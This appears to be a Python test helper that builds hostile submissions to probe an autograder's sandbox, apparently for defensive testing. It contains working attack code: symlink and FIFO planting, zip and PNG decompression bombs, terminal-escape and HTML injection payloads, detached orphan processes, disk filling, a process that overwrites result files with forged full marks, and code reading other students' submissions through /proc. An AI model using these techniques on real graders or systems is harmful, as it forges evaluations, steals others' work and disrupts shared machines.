"""Attacks on the grader's trust boundary (tests/test_grader_trust.py), written as a student who read
the grader would. Each is the reference solution plus hostile code, so that whatever it loses is the
attack's doing. Everything they write stays under `safe_root` (the test's temporary folder) or the
grader's own scratch folders, and everything they start is bounded in time (`life` seconds) and size.
"""
import re
from pathlib import Path

from grader_cases import cases as C


def exchange_names(grader_dir):
    """The request keys the checks use (public code): the attacker plants files under those names."""
    keys = set()
    for f in Path(grader_dir, "checks").glob("check_*.py"):
        keys.update(re.findall(r'sub\.(?:run|submit)\(\s*f?"([A-Za-z0-9_]+)', f.read_text(encoding="utf-8")))
    return sorted(keys)


def plant_links(reference, victim, keys):
    """Symlinks and FIFOs where the judge writes inputs and reads replies; replies replaced by links
    and FIFOs (by patching numpy.savez, which the worker uses); the figure is a link to a real PNG."""
    return reference + f'''

def _plant():
    import os, pathlib, sys
    victim = {str(victim)!r}
    here = pathlib.Path.cwd()
    places = [here.parent / "x", here.parent / "in", pathlib.Path(sys.argv[0]).resolve().parent]
    for place in places:
        for i, k in enumerate({keys!r}):
            for name in (k + "_in.npz", k + "_out.npz"):
                try:
                    if os.path.lexists(place / name):
                        os.unlink(place / name)
                    if i % 2:
                        os.mkfifo(place / name)
                    else:
                        os.symlink(victim, place / name)
                except OSError:
                    pass


_plant()

import numpy as _np_planted
import os as _os_planted


def _savez_planted(file, *a, **k):
    file = str(file)
    if _os_planted.path.lexists(file):
        _os_planted.unlink(file)
    if "train" in file or "g_fwd" in file:
        _os_planted.mkfifo(file)  # the judge must not block on it
    else:
        _os_planted.symlink({str(victim)!r}, file)  # nor follow it


_np_planted.savez = _savez_planted
_real_visualize = visualize


def visualize(G, dataset, device, path, indices=(0, 1, 2)):
    import os
    real = os.path.join(os.getcwd(), "real_figure.png")
    _real_visualize(G, dataset, device, real, indices=indices)
    os.symlink(real, path)  # a link to a real figure: the judge must not follow it
    return path
'''


def make_npz_bomb(inflated=2 ** 30):
    """An honest .npz (sizes, CRC) of ~1 MB whose one float64 array inflates to `inflated` bytes.
    Built here, on the trusted side (a few seconds of zlib), and embedded in the submission, so that
    the submission's import stays fast."""
    import io
    import zipfile

    import numpy as np

    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "<f8", "fortran_order": False,
                                                  "shape": (inflated // 8,)})
    zeros = bytes(2 ** 24)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        with z.open("g.npy", "w", force_zip64=True) as f:
            f.write(header.getvalue())
            for _ in range(inflated // len(zeros)):
                f.write(zeros)
    return buf.getvalue()


def npz_bomb(reference, bomb):
    """Every reply is the bomb: the worker's numpy.savez is replaced by one that writes it."""
    import base64

    return reference + f'''

import base64 as _b64
import numpy as _np_bomb
_BOMB = _b64.b64decode({base64.b64encode(bomb).decode()!r})


def _savez_bomb(file, *a, **k):
    with open(file, "wb") as f:
        f.write(_BOMB)


_np_bomb.savez = _savez_bomb
'''


def png_bomb(reference, side=8900):
    """visualize writes a valid 8-bit gray PNG of side x side pixels (79 MP, under PIL's hard limit
    of 2 x 89 MP by default) that is only ~80 KB on disk."""
    return reference + f'''

def visualize(G, dataset, device, path, indices=(0, 1, 2)):
    import struct, zlib
    w = h = {side}
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    comp, parts, row = zlib.compressobj(9), [], bytes(w + 1)
    for _ in range(h):
        parts.append(comp.compress(row))
    parts.append(comp.flush())
    png = (b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 0, 0, 0, 0))
           + chunk(b"IDAT", b"".join(parts)) + chunk(b"IEND", b""))
    with open(path, "wb") as f:
        f.write(png)
    return path
'''


def deep_expression(n=200_000):
    """Not even parseable by CPython's recursive AST builder."""
    return "x = " + "+".join(["1"] * n) + "\n"


FAKE = "**总分 / Total: 100/100**"
HTML = '<img src=x onerror="alert(1)">'


def markdown_injection(reference):
    """Prints and raises text that would fake a full score and run HTML if rendered."""
    payload = f"```\n````\n~~~\n# {FAKE}\n{HTML}\n``````````\n"
    return C.substitute(reference, C.insert_after(
        C.BUILD_LOSSES_START, f"raise ValueError({payload!r})", "    ")) + f'''
print({payload!r})
import sys as _sys_md
print({payload!r}, file=_sys_md.stderr)
'''


def orphans(reference, marker, life):
    """At import: two detached grandchildren (double fork + setsid, or their own process group where a
    fence refuses a new session: the attack goes on as a real one would). One execs `sleep` under an argv
    carrying `marker`; the other stays a copy of the worker, keeping every inherited pipe, and tells
    its pid on stderr. Both would live `life` seconds."""
    return reference + f'''

def _detach():
    import os, sys, time
    for kind in ("exec", "python"):
        pid = os.fork()
        if pid:
            os.waitpid(pid, 0)
            continue
        try:
            os.setsid()
        except OSError:
            os.setpgid(0, 0)
        if os.fork():
            os._exit(0)
        if kind == "exec":
            try:
                os.execv("/bin/sleep", [{marker!r}, "{life}"])
            finally:
                os._exit(0)
        print("ORPHAN_PID=%d" % os.getpid(), file=sys.stderr, flush=True)
        time.sleep({life})
        os._exit(0)


_detach()
'''


def disk_fill(reference, total_mb=256):
    """build_losses writes 2 MB files into its temp folder until an error stops it (at most total_mb),
    then says how much it wrote and goes on normally."""
    return C.substitute(reference, C.insert_after(C.BUILD_LOSSES_START, f'''
import os as _os, sys as _sys, tempfile as _tf
_written = 0
try:
    for _i in range({total_mb} // 2):
        with open(_os.path.join(_tf.gettempdir(), "fill%d" % _i), "wb") as _f:
            _f.write(b"x" * (2 * 2 ** 20))
        _written += 2 * 2 ** 20
except OSError:
    pass
print("FILLED=%d" % _written, file=_sys.stderr, flush=True)
''', "    "))


def staller(reference, seconds):
    """Every contract function first sleeps just under the per-call timeout."""
    return reference + f'''

import functools as _ft, time as _time


def _slow(f):
    @_ft.wraps(f)
    def g(*a, **k):
        _time.sleep({seconds})
        return f(*a, **k)
    return g


for _n in ("build_losses", "build_optimizers", "train_step", "visualize"):
    globals()[_n] = _slow(globals()[_n])
for _cls in (PairedMedicalDataset, Generator, Discriminator):
    _cls.__init__ = _slow(_cls.__init__)
'''


def results_writer(reference, out_dir, kit_dir, marker, life):
    """At import, a detached grandchild that keeps overwriting every results.json / grades.csv under
    out_dir with full marks and tries to plant a file in the kit, for `life` seconds."""
    return reference + f'''

def _writer():
    import os, sys, time, json, pathlib
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    sys.argv[0] = {marker!r}
    try:
        with open("/proc/self/comm", "w") as f:
            f.write({marker!r}[:15])
    except OSError:
        pass
    forged = json.dumps({{"score": 100, "tests": [{{"name": "forged", "score": 100}}]}})
    end = time.time() + {life}
    while time.time() < end:
        out = pathlib.Path({str(out_dir)!r})
        try:
            for p in list(out.rglob("results.json")) + [out / "grades.csv"]:
                p.write_text(forged)
        except OSError:
            pass
        for target in (pathlib.Path({str(kit_dir)!r}) / "PWNED", out / "PWNED"):
            try:
                target.write_text("x")
            except OSError:
                pass
        time.sleep(0.2)
    os._exit(0)


_writer()
'''


# Terminal escapes (clear screen, OSC 52 clipboard write, window title), a carriage return that
# overwrites the line with a fake score, a C1 CSI and bidi overrides that reorder what a reader sees.
ESCAPES = ("\x1b[2J\x1b[H\x1b]52;c;ZWNobyBvd25lZA==\x07\x1b]0;pwned\x07\rTotal 100 / 100\x9b31m"
           "\u202egnissap\u202c\u2066x\u2069\x00\x08")


def control_characters(reference, payload=ESCAPES):
    """Prints `payload` at import (stdout and stderr) and raises it in build_losses."""
    return C.substitute(reference, C.insert_after(
        C.BUILD_LOSSES_START, f"raise ValueError({payload!r})", "    ")) + f'''
print({payload!r})
import sys as _sys_cc
print({payload!r}, file=_sys_cc.stderr)
'''


def neighbour_reader(reference, marker, wait=20):
    """Looks for other students' workers (their command lines in /proc, their folders next to its own)
    and tries to read their in/submission.py; build_losses raises what it found: how many folders it
    saw and every `marker-<name>` line it could read in them. Polls up to `wait` seconds, once."""
    return reference + f'''

_NEIGHBOURS = []


def _read_neighbours():
    import glob, os, re, time
    own = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    seen, stolen, end = set(), set(), time.time() + {wait}
    while time.time() < end and not stolen:
        for d in os.listdir("/proc"):
            if d.isdigit():
                try:
                    with open("/proc/%s/cmdline" % d, "rb") as f:
                        argv = f.read().split(b"\\0")
                except OSError:
                    continue
                for a in argv:
                    if a.endswith(b"/in/worker.py"):
                        seen.add(os.path.dirname(os.path.dirname(a.decode("utf-8", "replace"))))
        seen.update(glob.glob(os.path.join(os.path.dirname(own), "e6w-*")))
        seen.discard(own)
        for root in sorted(seen):
            try:
                with open(os.path.join(root, "in", "submission.py"), encoding="utf-8") as f:
                    stolen.update(re.findall({marker!r} + r"-\\w+", f.read()))
            except (OSError, UnicodeDecodeError):
                pass
        time.sleep(0.5)
    return "NEIGHBOURS_SEEN=%d STOLEN=[%s]" % (len(seen), " ".join(sorted(stolen)))


def build_losses(*a, **k):
    if not _NEIGHBOURS:
        _NEIGHBOURS.append(_read_neighbours())
    raise RuntimeError(_NEIGHBOURS[0])
'''


def protection_forger(reference):
    """Claims a Landlock that does not exist: the worker runs as __main__ in the same process, so its
    module global SANDBOX (what its import reply says contained it) can be rewritten at import."""
    return reference + '''

import sys as _sys_forge

_sys_forge.modules["__main__"].SANDBOX = "landlock ABI 99"
'''


def judge_work(reference, rows=16):
    """Makes the judge recompute G on many images: visualize calls G eight times (one image each, all
    recorded), then the worker's numpy.savez is replaced so that every recorded call holds `rows`
    images (blank, so the file stays small), with G's real eval-mode outputs on them (so the judge
    recomputes every call before it could find anything wrong): 8 x `rows` x 2 forward passes of G
    in the judge, 64 MB of arrays once inflated for rows=16."""
    return reference + f'''

import numpy as _np_jw

_JW = {{}}
_real_savez_jw = _np_jw.savez
_real_visualize_jw = visualize


def _savez_jw(file, *a, **arrays):
    if "in0" in arrays and "out0" in arrays and "G" in _JW:
        import torch
        G = _JW["G"]
        G.eval()
        x = torch.zeros({rows}, 1, 256, 256)  # compresses to nearly nothing: fits any scratch quota
        with torch.no_grad():
            y = G(x).numpy()
        arrays = {{}}
        for k in range(_JW["calls"]):
            arrays["in%d" % k], arrays["out%d" % k] = x.numpy(), y
        return _np_jw.savez_compressed(file, *a, **arrays)
    return _real_savez_jw(file, *a, **arrays)


_np_jw.savez = _savez_jw


def visualize(G, dataset, device, path, indices=(0,), title=None):
    import torch
    n = [0]
    h = G.register_forward_hook(lambda *_: n.__setitem__(0, n[0] + 1))
    out = _real_visualize_jw(G, dataset, device, path, indices=indices, title=title)
    G.eval()
    with torch.no_grad():
        while n[0] < 8:
            G(dataset[indices[0]][0].unsqueeze(0))
    h.remove()
    _JW["G"], _JW["calls"] = G, n[0]
    return out
'''
